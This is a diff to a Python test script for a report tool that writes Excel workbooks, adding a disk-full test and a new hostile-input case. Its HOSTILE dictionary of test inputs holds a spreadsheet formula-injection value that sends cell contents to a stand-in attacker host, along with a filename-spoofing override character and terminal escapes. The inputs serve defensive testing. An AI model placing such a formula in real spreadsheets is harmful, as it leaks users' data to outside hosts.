@@ -5,6 +5,7 @@ import io
 import json
 import os
 import re
+import resource
 import subprocess
 import sys
 import tempfile
@@ -135,6 +136,7 @@ HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1)',
     "escape": "red \x1b[31m and bell \x07",
     "override": "abc\u202etxt.exe",
+    "noncharacter": "no XML \ufffe has \uffff",
     "long": "Anticonstitutionnellement " * 12,
 }
 MARKDOWN = "[click](http://evil.example) `x` | # *b* http://evil.example www.evil.example"
@@ -228,7 +230,31 @@ def check_absent(study, folder):
         expect("xlsx-not-installed" in done.stderr or not status, f"xlsx: {done.stderr}")
 
 
+def check_full_disk(study, folder):
+    """A workbook that there is no room for is none, and the old one stays. libxlsxwriter
+    says nothing where a sheet does not fit into its temporary file, and the rest does."""
+    if not has_xlsx():
+        return
+    path = os.path.join(folder, "report.xlsx")
+    run(study, "-o", path)
+    with zipfile.ZipFile(path) as archive:
+        largest = max(info.file_size for info in archive.infolist())
+    whole = os.path.getsize(path)
+    expect(whole < largest - 2048, "no sheet that is larger than the workbook")
+    for what, limit in (("a sheet", (whole + largest) // 2), ("nothing", 8192)):
+        with open(path, "w", encoding="utf-8") as out:
+            out.write("the old one")
+        done = subprocess.run([tool, "report", "--quiet", study, "-o", path], text=True,
+                              stderr=subprocess.PIPE, preexec_fn=lambda: resource.setrlimit(
+                                  resource.RLIMIT_FSIZE, (limit, limit)))
+        expect(done.returncode == 5, f"no room for {what}: exit status {done.returncode}")
+        expect("[workbook-failed]" in done.stderr, f"no room for {what}: {done.stderr}")
+        with open(path, encoding="utf-8", errors="replace") as left:
+            expect(left.read() == "the old one", f"no room for {what}: the old one is gone")
+
+
 with tempfile.TemporaryDirectory() as folder:
+    check_full_disk(os.path.join(source, "data", "hotels", "symbar.json"), folder)
     check_figures(os.path.join(source, "data", "hotels", "symbar.json"))
     check_absent(os.path.join(source, "data", "hotels", "symbar.json"), folder)
     check_hostile(write_study(folder))
